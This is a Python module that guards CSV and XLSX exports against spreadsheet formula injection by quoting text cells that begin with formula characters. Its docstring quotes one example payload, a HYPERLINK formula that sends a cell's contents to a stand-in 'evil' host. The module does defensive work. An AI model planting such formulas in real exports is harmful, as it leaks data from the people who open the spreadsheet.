"""Every CSV and XLSX export writes its cells through here, so that no cell runs as a formula.

A spreadsheet program treats a cell beginning with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or
carriage return) as a formula: a person named ``=HYPERLINK("http://evil/?"&A1, "click")`` would become a
live link in the quality manager's spreadsheet (CSV/formula injection, OWASP). Text values that begin
so are prefixed with a single quote, the convention spreadsheet programs show as plain text; numbers,
dates and booleans are written as they are (a negative number stays a number).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet must store it: text that could start a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return ["" if value is None else safe_cell(value) for value in values]


class SafeCsvWriter:
    """``csv.writer`` whose rows are neutralised cell by cell."""

    def __init__(self, stream, **kwargs) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, values: Iterable[Any]):
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def xlsx_cell(sheet, value: Any):
    """A write-only XLSX cell holding ``value``; text is always stored as text, never as a formula."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=safe_cell(value))
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell
